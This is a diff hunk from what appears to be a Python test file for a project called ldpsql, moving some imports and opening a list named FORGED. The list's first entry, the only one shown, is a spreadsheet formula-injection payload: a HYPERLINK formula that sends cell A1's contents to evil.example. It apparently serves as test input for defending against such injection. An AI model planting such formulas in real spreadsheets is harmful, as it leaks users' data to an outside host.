@@ -10,10 +10,10 @@ import pytest
 from support.command_line import run
 from support.surveys import ANYTHING, integer, public, survey_toml
 
-from ldpsql import table_files
 from ldpsql.designer import design
+from ldpsql.randomize.table import randomize
 from ldpsql.store import open_store
-from ldpsql_device.table import randomize
+from ldpsql.terminal import table_files
 
 FORGED = [
     '=HYPERLINK("https://evil.example/?" & A1, "open")',
